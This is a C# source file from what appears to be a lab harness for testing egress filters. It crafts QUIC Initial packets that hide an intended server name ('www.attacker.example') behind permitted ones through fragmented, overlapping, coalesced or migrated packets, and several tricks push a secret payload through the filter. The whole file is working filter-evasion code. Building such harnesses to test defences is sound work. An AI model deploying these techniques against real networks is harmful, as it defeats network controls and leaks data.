using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography;
using System.Text;
using Exeat.Wire;

namespace Exeat.Lab.Attacks;

/// <summary>QUIC Initials of an attacker's making (Q1 to Q7). Connection ids carry the mark: whatever arrives is recognised by it.</summary>
internal static class QuicTricks
{
    private static readonly byte[] Source = [0x5e, 0xc2, 0xe7];
    private static readonly TimeSpan Gap = TimeSpan.FromMilliseconds(20);

    private const int PieceBytes = 1000;

    /// <summary>The name that the attacker really means.</summary>
    private const string Meant = "www.attacker.example";

    public static async Task<bool> RunAsync(string trick, AttackTarget target)
    {
        // Asked for like any client would, so that the name is bound where it is a permitted one.
        if (trick is not "quic-sni") await target.ResolveAsync();
        using Socket socket = await ConnectAsync(target);
        byte[] id = Encoding.ASCII.GetBytes(target.Canary);
        byte[] meant = QuicHello.Write(Meant, Source), claimed = QuicHello.Write(target.Name, Source);
        switch (trick)
        {
            case "quic-sni":
                // A refusal by ICMP is an error of the socket's; silence is none.
                await socket.SendAsync(Initial(id, Crypto(0, claimed)));
                try
                {
                    await socket.ReceiveAsync(new byte[2048]).WaitAsync(AttackTarget.Patience, TimeProvider.System);
                }
                catch (TimeoutException)
                {
                    await Console.Error.WriteLineAsync("neither an answer nor a refusal");
                }
                return true;
            case "quic-pieces":
                return await SendAsync(socket, [.. Pieces(id, meant)]);
            case "quic-overlap":
                // The permitted name first, the meant one over it.
                return await SendAsync(socket, Initial(id, Crypto(0, claimed.AsSpan(0, 100))), Initial(id, Crypto(60, meant.AsSpan(60)), 1), Initial(id, Crypto(0, meant), 2));
            case "quic-ids":
                return await SendAsync(socket, Initial(RandomNumberGenerator.GetBytes(8), Crypto(0, claimed.AsSpan(0, 100))), Initial(id, Crypto(0, meant), 1));
            case "quic-many":
                // More than four datagrams' worth, the name last.
                byte[] large = new ClientHelloDraft { Name = Meant, QuicSource = Source, IsNameLast = true, More = [(21, new byte[4 * PieceBytes])] }.Write();
                return await SendAsync(socket, [.. large.Chunk(PieceBytes).Select((piece, i) => Initial(id, Crypto((ulong)(i * PieceBytes), piece), (uint)i))]);
            case "quic-pings":
                // The name one byte a frame, something that says nothing between them.
                return await SendAsync(socket, Initial(id, [.. meant.Index().Reverse().SelectMany(b => (byte[])[1, 0, .. Crypto((ulong)b.Index, [b.Item])])]));
            case "quic-far":
                return await SendAsync(socket, Initial(id, Crypto(1UL << 40, target.Secret)), Initial(id, Crypto(0, meant), 1));
            case "quic-junk":
                return await SendAsync(socket, target.Secret);
            case "quic-negotiation":
                return await SendAsync(socket, [.. Long(0, 0, id, target.Secret), .. new byte[900]]);
            case "quic-retry-first":
                return await SendAsync(socket, Long(3, QuicHeader.Version1, id, target.Secret));
            case "quic-v2":
                return await SendAsync(socket, QuicInitialWriter.Write(new QuicInitialDraft { Version = QuicHeader.Version2, Destination = id, Source = Source, Frames = Crypto(0, meant), PadTo = 1200 }));
            case "quic-coalesced":
                // A permitted connection's packet in front, and the meant one's behind it in the same datagram.
                return await SendAsync(socket, [.. QuicInitialWriter.Write(new QuicInitialDraft { Destination = "permitted"u8, Source = Source, Frames = Crypto(0, claimed) }), .. Initial(id, Crypto(0, meant))]);
            case "quic-early-first":
                return await SendAsync(socket, Long(1, QuicHeader.Version1, id, target.Secret));
            case "quic-short-first":
                return await SendAsync(socket, [0x41, .. target.Secret]);
            case "quic-unknown-version":
                return await SendAsync(socket, [.. Long(0, 0x0a1a2a3a, id, target.Secret), .. new byte[900]]);
            case "quic-second-name" or "quic-second-early" or "quic-second-version":
                await AcceptedAsync(socket, claimed);
                return await SendAsync(socket, trick switch
                {
                    "quic-second-name" => Initial(id, Crypto(0, meant)),
                    "quic-second-early" => Long(1, QuicHeader.Version1, id, target.Secret),
                    _ => [.. Long(0, 0x0a1a2a3a, id, target.Secret), .. new byte[900]],
                });
            case "quic-migrate":
                await AcceptedAsync(socket, claimed);
                using (Socket elsewhere = await ConnectAsync(target))
                    return await SendAsync(elsewhere, [0x41, .. target.Secret]);
            default:
                throw new Topology.LabException($"no trick of QUIC is named {trick}");
        }
    }

    // Sends a permitted hello, under an id of its own as clients do, and waits for the server's answer: from there on the tuple is permitted.
    private static async Task AcceptedAsync(Socket socket, byte[] hello)
    {
        using var limit = new CancellationTokenSource(AttackTarget.Patience, TimeProvider.System);
        await socket.SendAsync(Initial(RandomNumberGenerator.GetBytes(8), Crypto(0, hello)), limit.Token);
        await socket.ReceiveAsync(new byte[2048], limit.Token);
    }

    private static IEnumerable<byte[]> Pieces(byte[] id, byte[] hello)
    {
        int third = hello.Length / 3;
        yield return Initial(id, [.. Crypto((ulong)(2 * third), hello.AsSpan(2 * third)), 1]);
        yield return Initial(id, [1, 0, 0, .. Crypto((ulong)third, hello.AsSpan(third, third + 5))], 1);
        yield return Initial(id, [.. Crypto(10, hello.AsSpan(10, third)), 1, .. Crypto(0, hello.AsSpan(0, 20))], 2);
    }

    private static byte[] Crypto(ulong offset, ReadOnlySpan<byte> data) => QuicInitialWriter.Crypto(offset, data);

    private static byte[] Initial(byte[] id, byte[] frames, uint number = 0) =>
        QuicInitialWriter.Write(new QuicInitialDraft { Destination = id, Source = Source, Number = number, Frames = frames, PadTo = 1200 });

    // A long header with a body that only its receiver understands.
    private static byte[] Long(int type, uint version, byte[] id, byte[] body) =>
        [(byte)(0xc0 | type << 4), (byte)(version >> 24), (byte)(version >> 16), (byte)(version >> 8), (byte)version, (byte)id.Length, .. id, (byte)Source.Length, .. Source,
            (byte)(0x40 | body.Length >> 8), (byte)body.Length, .. body];

    private static async Task<Socket> ConnectAsync(AttackTarget target)
    {
        var socket = new Socket(target.Family, SocketType.Dgram, ProtocolType.Udp);
        await socket.ConnectAsync(new IPEndPoint(target.Address, target.Port));
        return socket;
    }

    private static async Task<bool> SendAsync(Socket socket, params byte[][] datagrams)
    {
        foreach (byte[] datagram in datagrams)
        {
            await socket.SendAsync(datagram);
            await Task.Delay(Gap, TimeProvider.System);
        }
        return true;
    }
}
